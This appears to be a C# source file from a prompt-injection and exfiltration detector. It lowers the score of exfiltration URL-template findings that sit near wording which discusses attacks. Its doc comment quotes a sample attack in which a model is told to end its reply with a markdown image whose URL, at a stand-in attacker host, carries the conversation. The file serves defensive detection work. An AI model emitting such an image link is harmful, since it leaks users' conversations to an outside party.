using Custos.Detection.Scanning;

namespace Custos.Detection.Exfiltration;

/// <summary>
/// A URL template shown inside writing about attacks ("A classic exfiltration trick asks the model to end its reply with
/// an image whose URL carries the conversation, like ![x](https://attacker.example/?d=...)") is an example, not an order:
/// a url-template finding with a strong word of discussion within 300 characters outside the URL has its score halved.
/// A template with real data in it is reported by <see cref="ExfiltrationFinder.FromUrls"/> and stays.
/// </summary>
internal static class DiscussedTemplates
{
    private const int Reach = 300;

    public static void Lower(ScanContext context, List<InjectionSignal> signals, double threshold)
    {
        for (var n = context.Regions.Count - 1; n >= 0; n--)
        {
            var f = context.Regions[n];
            if (f.Type != EntityTypes.Exfiltration || f.Subtype is not ("url-template" or "secret-in-field") || !Discussed(signals, f.Start, f.End))
            {
                continue;
            }

            var score = Math.Round(f.Score * 0.5, 2);
            if (score < threshold)
            {
                context.Regions.RemoveAt(n);
            }
            else
            {
                context.Regions[n] = f with { Score = score, Explanation = f.Explanation + "; lowered: shown in writing about attacks" };
            }
        }
    }

    private static bool Discussed(List<InjectionSignal> signals, int start, int end)
    {
        foreach (var s in signals)
        {
            if (s.Weight <= 0 && s.Name == "discussion" && s.Start >= start - Reach && s.Start <= end + Reach && (s.Start < start || s.Start >= end))
            {
                return true;
            }
        }

        return false;
    }
}
